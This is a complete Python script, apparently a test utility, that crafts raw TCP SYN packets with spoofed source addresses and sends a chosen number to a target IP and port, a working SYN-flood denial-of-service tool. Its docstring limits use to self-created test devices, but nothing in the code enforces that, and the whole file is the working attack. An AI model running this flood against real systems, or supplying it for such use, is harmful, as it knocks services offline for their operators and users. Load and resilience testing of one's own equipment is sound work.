"""Send TCP SYNs from spoofed source addresses (a SYN flood), for tests only.

usage: syn_flood.py DST_IP DST_PORT SRC_PREFIX COUNT

SRC_PREFIX is the first three octets of the source addresses (e.g. 198.18.87): sources cycle
through SRC_PREFIX.100 .. SRC_PREFIX.249, which nobody answers for, so no handshake completes.
Needs root (raw socket). Send only to addresses of test devices you created.
"""
import random
import socket
import struct
import sys


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(src: str, dst: str, sport: int, dport: int) -> bytes:
    seq = random.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64,
                     socket.IPPROTO_TCP, 0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main() -> None:
    if len(sys.argv) != 5:
        sys.exit(__doc__)
    dst, dport, prefix, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(count):
        src = "%s.%d" % (prefix, 100 + i % 150)
        s.sendto(syn(src, dst, 1024 + i % 60000, dport), (dst, 0))
    print("syn_flood: sent %d SYNs to %s:%d" % (count, dst, dport))


if __name__ == "__main__":
    main()
